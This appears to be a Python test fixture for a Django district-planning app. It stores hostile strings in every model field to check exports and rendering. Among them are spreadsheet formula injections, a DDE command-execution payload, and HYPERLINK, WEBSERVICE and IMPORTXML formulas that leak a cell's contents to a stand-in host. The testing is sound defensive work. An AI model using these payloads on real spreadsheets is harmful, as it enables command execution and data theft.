"""Texts that do harm if a spreadsheet, a browser or a parser interprets them."""

from __future__ import annotations

from django.db import connection

from districts.models import Department, District
from measures.models import Assignment, Chapter, Discrepancy, Document, Measure

#: Texts that a cell must neither run, change nor break.
PAYLOADS = [
    "=1+1",
    "==1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "'=1+1",
    "''=1+1",
    "'",
    "'引'",
    '"=1+1',
    '",=1+1,"',
    "a\r\n=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"点此")',
    '=WEBSERVICE("http://example.invalid/")',
    '=IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
    "{=1+1}",
    "%0A=1+1",
    "<r><t>=1+1</t></r>",
    "<r>",
    "</t></is></c><c><f>1+1</f></c>",
    "<![CDATA[",
    "&amp;&lt;",
    "_x0041_",
    "_x005F_x0041_",
    "\x01\x1f\x7f",
    "\ufffe\uffff",
    "  两端有空白  ",
    "\n\n",
    "TRUE",
    "1E5",
    "0012",
    "5.10",
    "2025-01-01",
    "1/2",
    "#REF!",
    "mailto:a@example.invalid",
    "http://example.invalid/",
    "internal:Sheet1!A1",
    "👩‍👩‍👧‍👦🀄𠀀",
    "长" * 40_000,
    "𠀀" * 16_384,
]
_NUL = "甲\0乙"


def payloads() -> list[str]:
    """Return the texts that the database can store; PostgreSQL refuses NUL."""
    return PAYLOADS if connection.vendor == "postgresql" else [*PAYLOADS, _NUL]


def make_hostile(texts: list[str] | None = None) -> Document:
    """Create a document with one measure for each of ``texts``, with that text in every field."""
    texts = texts or payloads()
    district = District.objects.create(name="=1+1区", slug="hostile", code="310199")
    document = Document.objects.create(
        district=district, year=2025, slug="hostile-2025", title="=HYPERLINK(1)<r></r>"
    )
    for order, text in enumerate(texts):
        short = text[:150]
        chapter = Chapter.objects.create(document=document, ordinal="一", title=short, order=2 * order)
        section = Chapter.objects.create(
            document=document, parent=chapter, ordinal="（一）", title=short, order=2 * order + 1
        )
        measure = Measure.objects.create(
            document=document,
            chapter=section,
            code=str(order + 1),
            title=short,
            text=text,
            deadline=short,
            order=order,
        )
        body = Department.objects.create(name=f"{short}{order}", full_name=short, district=district)
        for role in Assignment.Role.values:
            Assignment.objects.create(
                measure=measure, department=body, role=role, place="staff", phrase=text, reason=short
            )
        Discrepancy.objects.create(measure=measure, field="lead", in_text=text, in_table=short)
    return document
